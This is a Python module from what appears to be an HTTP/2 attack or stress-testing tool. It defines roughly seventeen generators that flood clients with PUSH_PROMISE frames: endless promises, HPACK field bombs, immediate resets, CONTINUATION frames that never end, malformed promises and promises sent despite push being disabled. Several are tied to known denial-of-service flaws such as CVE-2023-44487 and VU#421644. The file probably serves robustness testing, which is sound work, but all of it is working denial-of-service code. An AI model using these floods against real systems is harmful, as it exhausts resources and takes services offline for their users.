"""PUSH_PROMISE, which only servers send."""

from __future__ import annotations

from itertools import count, cycle, islice

from . import wire
from .attack import Frames, Role, attack
from .fields import ENTRY, NEWEST
from .messages import GET, RESPONSE
from .wire import indexed, literal

CLIENT: tuple[Role, ...] = ("client",)


@attack("push-promise", "PUSH_PROMISE without end", CLIENT, streams=1)
def promises() -> Frames:
    for promised in count(2, 2):
        yield wire.push_promise(1, promised, GET)


@attack("push-promise-streams", "PUSH_PROMISE on many streams in turn", CLIENT, streams=1000)
def promises_on_streams() -> Frames:
    for stream_id, promised in zip(cycle(range(1, 2000, 2)), count(2, 2), strict=False):
        yield wire.push_promise(stream_id, promised, GET)


@attack(
    "push-promise-large",
    "PUSH_PROMISE with large fields from the table",
    CLIENT,
    streams=1,
    cve="CVE-2016-6581",
)
def promises_with_bombs() -> Frames:
    yield wire.push_promise(1, 2, GET + literal(b"x", b"v" * ENTRY, add=True))
    for promised in count(4, 2):
        yield wire.push_promise(1, promised, GET + NEWEST * 15)


@attack("push-promise-fields", "PUSH_PROMISE with 1,000 fields", CLIENT, streams=1)
def promises_with_fields() -> Frames:
    for promised in count(2, 2):
        yield wire.push_promise(1, promised, GET + indexed(16) * 1000)


@attack("push-promise-gaps", "PUSH_PROMISE with identifiers left out", CLIENT, streams=1)
def promises_with_gaps() -> Frames:
    for promised in count(2, 20):
        yield wire.push_promise(1, promised, GET)


@attack("push-reset", "promises, each reset immediately", CLIENT, streams=1, cve="CVE-2023-44487")
def promises_reset() -> Frames:
    for promised in count(2, 2):
        yield wire.push_promise(1, promised, GET) + wire.rst_stream(promised)


@attack("push-response", "promises that are kept, without end", CLIENT, streams=1)
def promises_kept() -> Frames:
    for promised in count(2, 2):
        yield wire.push_promise(1, promised, GET) + wire.headers(promised, RESPONSE, end=True)


@attack("push-response-open", "responses to promises that never end", CLIENT, streams=1)
def promises_open() -> Frames:
    for promised in count(2, 2):
        yield wire.push_promise(1, promised, GET) + wire.headers(promised, RESPONSE)


@attack("push-data", "promises, then DATA before the response", CLIENT, streams=1)
def promises_data() -> Frames:
    for promised in count(2, 2):
        yield wire.push_promise(1, promised, GET) + wire.data(promised, b"x")


@attack("push-window-update", "WINDOW_UPDATE on promised streams", CLIENT, streams=1)
def promises_window_update() -> Frames:
    for promised in count(2, 2):
        yield wire.push_promise(1, promised, GET) + wire.window_update(promised, 1)


@attack("push-same", "the same promise again", CLIENT, streams=1)
def promises_same() -> Frames:
    while True:
        yield wire.push_promise(1, 2, GET)


@attack(
    "push-unwanted",
    "promises although push is disabled",
    CLIENT,
    streams=1,
    own_settings={wire.ENABLE_PUSH: 0},
)
def promises_unwanted() -> Frames:
    for promised in count(2, 2):
        yield wire.push_promise(1, promised, GET)


@attack("push-after-reset", "promises on a stream that we reset", CLIENT, streams=1)
def promises_after_reset() -> Frames:
    yield wire.window_update(1, 0)
    for promised in count(2, 2):
        yield wire.push_promise(1, promised, GET)


@attack("push-malformed", "promises without :path", CLIENT, streams=1, cve="CVE-2025-8671")
def promises_malformed() -> Frames:
    for promised in count(2, 2):
        yield wire.push_promise(1, promised, GET[:2])


@attack(
    "push-continuation",
    "a promise in CONTINUATION frames without end",
    CLIENT,
    streams=1,
    cve="VU#421644",
)
def promises_continued() -> Frames:
    yield wire.push_promise(1, 2, GET, whole=False)
    while True:
        yield wire.continuation(1)


@attack("push-goaway", "promises, GOAWAY between them", CLIENT, streams=1)
def promises_goaway() -> Frames:
    for promised in islice(count(2, 2), 1 << 20):
        yield wire.push_promise(1, promised, GET) + wire.goaway(wire.LARGEST)


@attack("push-to-server", "PUSH_PROMISE from a client", ("server",), streams=1)
def promises_to_server() -> Frames:
    for promised in count(2, 2):
        yield wire.push_promise(1, promised, GET)
